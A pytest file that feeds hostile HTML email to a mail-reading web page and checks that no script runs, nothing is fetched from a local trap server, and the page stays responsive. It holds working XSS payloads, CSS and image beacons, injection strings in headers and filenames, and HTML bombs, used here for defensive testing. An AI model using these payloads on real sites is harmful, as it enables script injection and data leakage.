"""Mail that would run or load something, if the page let it: nothing runs, nothing is fetched, nothing stands still."""

import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest

from tests.page.browser import Visit

HEAD = "From: Eve <eve@example.net>\nSubject: look\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
# CPU time of the page's thread for all that it does with a message, 0.3 s at most when this was written. No single task
# can take longer; and unlike wall time it is the same on a machine that is busy with other things.
MOST_CPU_S = 1.0


@dataclass
class Trap:
    """A server that hostile mail names, and who came."""

    url: str
    visitors: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    found = Trap("")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.visitors.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        found.url = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield found
        server.shutdown()
        thread.join()


RUN = "document.title='ran';window.ran=1;fetch('TRAP/ran')"
# TRAP is the address of the trap.
HOSTILE = {
    "script": f"<script>{RUN}</script><script src=TRAP/x.js></script>",
    "onerror": f'<img src=x onerror="{RUN}"><svg onload="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">',
    "javascript": f'<a href="javascript:{RUN}">click</a><iframe src="javascript:{RUN}"></iframe>'
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    "images": "<img src=TRAP/pixel.gif><img srcset='TRAP/2x.png 2x'><picture><source srcset=TRAP/s.webp></picture>"
    "<table background=TRAP/b.png><video poster=TRAP/p.jpg src=TRAP/v.mp4></video><input type=image src=TRAP/i.png>",
    "css": "<style>@import url(TRAP/i.css); body{background:url(TRAP/bg.png)} input[value^=a]{background:url(TRAP/a)}"
    "@font-face{font-family:x;src:url(TRAP/f.woff2)} *{font-family:x}</style><p style='background:url(TRAP/p.png)'>"
    "styled</p><link rel=stylesheet href=TRAP/l.css><link rel=prefetch href=TRAP/pre><link rel=preconnect href=TRAP>",
    "frames": f"<iframe src=TRAP/frame></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>"
    "<base href=TRAP/><object data=TRAP/o></object><embed src=TRAP/e>"
    "<meta http-equiv=refresh content='0;url=TRAP/refresh'>",
    "breakouts": f"</textarea></script></style></title>--></mark></article><script>{RUN}</script>"
    f'<template><script>{RUN}</script></template><math><mtext><img src=x onerror="{RUN}">',
}
FIELDS = '"><img src=x onerror=ran()><script>ran()</script>'


def hostile(markup: str, trap: Trap) -> bytes:
    return (HEAD + markup.replace("TRAP", trap.url)).encode()


class Watch:
    """The CPU time of a window's thread since the watch was made."""

    def __init__(self, window: Visit) -> None:
        self._session = window.page.context.new_cdp_session(window.page)
        self._session.send("Performance.enable", {"timeDomain": "threadTicks"})
        self._begin_s = self._task_s()

    def cpu_s(self) -> float:
        return self._task_s() - self._begin_s

    def _task_s(self) -> float:
        metrics = {one["name"]: one["value"] for one in self._session.send("Performance.getMetrics")["metrics"]}
        seconds: float = metrics["TaskDuration"]
        return seconds


def check(window: Visit, trap: Trap) -> None:
    """Nothing ran, nobody came, and the page answers."""
    page = window.page
    page.wait_for_timeout(150)
    assert page.evaluate("[window.ran, document.title]") == [None, "Hamlet"]
    assert page.url.split("#")[0] == window.base
    assert (
        page.evaluate(
            "document.querySelectorAll('iframe, object, embed, base, main img, main a[href^=java], main script').length"
        )
        == 0
    )
    assert trap.visitors == []


@pytest.mark.parametrize("kind", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(window: Visit, trap: Trap, kind: str) -> None:
    """As HTML, as plain text, and in a list: the markup is text, or is not there at all."""
    page = window.open()
    raw = hostile(HOSTILE[kind] + "<p>Dear customer, click here to claim your prize.</p>", trap)
    plain = raw.replace(b"text/html", b"text/plain")
    window.read_files({"html.eml": raw})
    page.wait_for_selector(".opened")
    check(window, trap)
    window.read_files({"plain.eml": plain, "html.eml": raw})
    page.locator(".row").first.click()
    page.wait_for_selector(".opened")
    check(window, trap)


def test_names_and_headers_are_text_too(window: Visit, trap: Trap) -> None:
    """Subject, sender, reply address, attachment name, link text, file name and the server's own facts."""
    page = window.open()
    raw = (
        f"From: {FIELDS} <eve@example.net>\nReply-To: {FIELDS} <x@other.example>\nSubject: {FIELDS}\n"
        'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/html\n\n'
        f'<a href="http://evil.example/{FIELDS}">http://bank.example/<b>{FIELDS}</b></a>'
        f'<p style="display:none">{FIELDS.replace("<", "&lt;")}</p>\n--b\nContent-Type: application/pdf\n'
        "Content-Disposition: attachment; filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dran()%3E.pdf\n\nx\n--b--\n"
    ).encode()
    window.read_files({f"{FIELDS}.eml": raw})
    page.wait_for_selector(".opened")
    check(window, trap)
    assert FIELDS in page.inner_text(".letter .subject")
    window.read_files({f"{FIELDS}.eml": raw, "again.eml": raw})
    page.locator(".row").first.click()
    page.wait_for_selector(".opened")
    check(window, trap)


BOMBS = {
    "elements": "<div>" * 200_000 + "deep",
    "attributes": "<p " + " ".join(f"a{number}=1" for number in range(50_000)) + ">wide",
    "entities": "&lt;b&gt;" * 200_000,
    "marks": "<b>free money</b> <i>click here</i> " * 30_000,
    "piled letters": "Z" + "\u0301\u0302\u0303" * 100_000,
    "turned": "\u202e\u2066\u2067" * 100_000 + "gnp.exe",
    "one word": "x" * 1_000_000,
    "lines": "<br>" * 300_000,
}


@pytest.mark.parametrize("kind", BOMBS)
def test_a_bomb_of_html_leaves_the_page_responsive(window: Visit, trap: Trap, kind: str) -> None:
    """However deep, wide or long, what is drawn of it is bounded, and so is the time that this takes."""
    page = window.open()
    watch = Watch(window)
    window.read_files({"bomb.eml": hostile(BOMBS[kind], trap)})
    page.wait_for_selector(".opened")
    check(window, trap)
    assert page.evaluate("document.querySelectorAll('*').length") < 6000
    assert watch.cpu_s() < MOST_CPU_S
    page.click("text=Read another")
    assert page.is_visible("#source")


def test_five_megabytes_of_text_are_pasted_and_read(window: Visit, trap: Trap) -> None:
    """Pasted in one go, they do not go through the text area, and the page stays quick."""
    page = window.open()
    text = "Subject: long\n\n" + "All the words of a very long letter, again and again. " * 95_000
    assert len(text) > 5_000_000
    page.evaluate("text => navigator.clipboard.writeText(text)", text)
    page.focus("#source")
    watch = Watch(window)
    page.keyboard.press("Control+V")
    page.wait_for_selector(".opened")
    check(window, trap)
    assert watch.cpu_s() < MOST_CPU_S
    assert "longer than the model reads" in page.inner_text(".reading")
    assert page.input_value("#source") == ""
